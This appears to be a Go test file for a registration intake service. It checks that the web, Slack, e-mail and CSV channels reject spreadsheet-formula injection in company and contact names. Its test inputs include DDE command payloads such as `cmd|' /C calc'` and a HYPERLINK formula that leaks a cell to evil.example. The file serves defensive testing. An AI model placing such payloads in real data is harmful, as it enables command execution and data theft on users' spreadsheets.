package daemon

import (
	"html"
	"strings"
	"testing"
	"time"

	islack "github.com/regsync/regsync/intake/slack"
)

// Spreadsheet formulas in the fields that become CRM names: RevOps exports
// registrations from the CRM and opens them in Excel or Google Sheets, so
// a company named "-2+3+cmd|' /C calc'!A0" or "=HYPERLINK(…)" must never
// be stored. Every channel refuses it with the field and the reason; free
// text (the problem) keeps what the partner wrote.

// dde is the classic DDE payload, starting with "-" (which the CSV
// channel's old check let through).
const dde = `-2+3+cmd|' /C calc'!A0`

// The web form shows the error on the field, and stores nothing.
func TestIntakeWebFormRefusesFormulaNames(t *testing.T) {
	r := startRig(t, rigOpts{})
	before := r.records()
	for _, tc := range []struct{ field, value string }{
		{"company_name", dde},
		{"company_name", `=HYPERLINK("http://evil.example/?leak="&A1,"Globex")`},
		{"contact_name", "+1+cmd|' /C calc'!A0"},
		{"contact_role", "@SUM(1+1)*cmd|' /C calc'!A0"},
		{"company_name", "-cmd|' /C calc'!A0"},
	} {
		form := webForm(r.formNonce())
		form.Del("cf-turnstile-response")
		form.Set(tc.field, tc.value)
		resp, page := r.postForm("/register", form)
		if resp.StatusCode != 422 || !strings.Contains(html.UnescapeString(page), `id="e-`+tc.field+`">`) ||
			!strings.Contains(html.UnescapeString(page), "like a spreadsheet formula") {
			t.Errorf("%s=%q: %d, want 422 with the error on the field", tc.field, tc.value, resp.StatusCode)
		}
	}
	if r.records() != before {
		t.Errorf("refused forms made %d records", r.records()-before)
	}
	// A name that merely starts with "-", and free text that starts like a
	// formula, are registered as written.
	form := webForm(r.formNonce())
	form.Del("cf-turnstile-response")
	form.Set("company_name", "-ity Labs")
	form.Set("company_domain", "ity-labs.example")
	form.Set("contact_email", "ann@ity-labs.example")
	form.Set("problem", "=> they need SSO; +1 on audit logs; @finance wants exports")
	resp, _ := r.postForm("/register", form)
	if resp.StatusCode != 202 {
		t.Fatalf("-ity Labs: %d, want 202 (held until the address is confirmed)", resp.StatusCode)
	}
	cn, _, _ := r.confirm(r.confirmLink("sam@northwind.example", "-ity Labs"))
	rec := r.waitCase(cn, 5*time.Second, "in_review")
	if rec["company_name"] != "-ity Labs" || rec["problem"] != "=> they need SSO; +1 on audit logs; @finance wants exports" {
		t.Errorf("stored %q / %q", rec["company_name"], rec["problem"])
	}
}

// Slack: the command and the modal answer with the field and the reason.
func TestIntakeSlackRefusesFormulaNames(t *testing.T) {
	r := startRig(t, rigOpts{})
	before := r.records()
	text := `company="` + dde + `" domain=globex.example contact=Hank email=hank@globex.example problem=x consent=yes`
	code, body := r.slackPost(islack.CommandsPath, slashCommand("U1", text, "9.9.9"), rigSlackSecret)
	if code != 200 || !strings.Contains(body, `company_name: starts with \"-\"`) || !strings.Contains(body, "like a spreadsheet formula") {
		t.Errorf("command: %d %s", code, body)
	}
	values := map[string]string{"company_name": "Globex", "company_domain": "globex.example", "contact_name": "=1+1",
		"contact_email": "hank@globex.example", "problem": "=SUM is how they reconcile today"}
	code, body = r.slackPost(islack.InteractionsPath, modalSubmission("U1", "V-formula", values), rigSlackSecret)
	if code != 200 || !strings.Contains(body, `"response_action":"errors"`) || !strings.Contains(body, `"contact_name":"Starts with \"=\" like a spreadsheet formula"`) ||
		strings.Contains(body, `"problem"`) {
		t.Errorf("modal: %d %s", code, body)
	}
	if r.records() != before {
		t.Errorf("refused Slack requests made %d records", r.records()-before)
	}
}

// E-mail: the reply names what could not be used; the formula is not
// stored (the registration asks for the company instead).
func TestIntakeEmailRefusesFormulaNames(t *testing.T) {
	r := startRig(t, rigOpts{})
	raw := crlf(`
From: Sam Carter <sam@northwind.example>
To: partners@vendor.example
Subject: New registration
Message-ID: <formula-1@northwind.example>
Content-Type: text/plain; charset=utf-8

Company: ` + dde + `
Website: globex.example
Contact: =HYPERLINK("http://evil.example","Hank")
Email: hank@globex.example
Problem: =SUM of their spreadsheets is wrong every week
Consent: yes
`)
	code, out := r.postEmail(raw)
	cn, _ := out["case_number"].(string)
	if code != 200 || cn == "" {
		t.Fatalf("POST /intake/email: %d %v", code, out)
	}
	rec := r.waitCase(cn, 5*time.Second, "needs_info", "in_review", "approved", "declined")
	if rec["company_name"] != "" || rec["contact_name"] != "" {
		t.Errorf("a formula was stored: company_name %q contact_name %q", rec["company_name"], rec["contact_name"])
	}
	if rec["problem"] != "=SUM of their spreadsheets is wrong every week" {
		t.Errorf("problem %q: free text keeps what the partner wrote", rec["problem"])
	}
	reply := r.mailTo("sam@northwind.example", cn, 5*time.Second)
	for _, want := range []string{`- Company: starts with "-"`, `- Contact: starts with "="`, "like a spreadsheet formula"} {
		if !strings.Contains(reply.Envelope.Text, want) {
			t.Errorf("reply lacks %q:\n%s", want, reply.Envelope.Text)
		}
	}
}

// CSV: the row is rejected with the field and the reason; a name that
// only starts with "-" and a problem that starts like a formula are
// registered.
func TestIntakeCSVRefusesFormulaNames(t *testing.T) {
	r := startRig(t, rigOpts{})
	file := "Company,Website,Contact,Email,Problem,Consent,Country\r\n" +
		`"` + strings.ReplaceAll(dde, `"`, `""`) + `",calc.example,Eve,eve@calc.example,x,yes,US` + "\r\n" +
		"Globex,globex.example,-2+2,hank@globex.example,x,yes,US\r\n" +
		"-ity Labs,ity-labs.example,Ann Lee,ann@ity-labs.example,=> they need SSO,yes,US\r\n"
	code, body := r.uploadCSV([]byte(file), rigCSVToken)
	if code != 200 {
		t.Fatalf("%d %s", code, body)
	}
	rows := readResults(t, body)
	if len(rows) != 3 {
		t.Fatalf("results %v", rows)
	}
	for i, field := range []string{"company_name", "contact_name"} {
		if rows[i][2] != "rejected" || rows[i][3] != "invalid_row" || !strings.HasPrefix(rows[i][4], field+`: starts with "-"`) ||
			!strings.Contains(rows[i][4], "like a spreadsheet formula") {
			t.Errorf("row %d: %v", i+1, rows[i])
		}
	}
	if rows[2][2] == "rejected" {
		t.Fatalf("row 3 rejected: %v", rows[2])
	}
	if rec := r.byCase(rows[2][1]); rec["company_name"] != "-ity Labs" || rec["problem"] != "=> they need SSO" {
		t.Errorf("row 3 stored as %v", rec)
	}
	if n := r.records(); n != 1 {
		t.Errorf("%d records, want 1", n)
	}
}
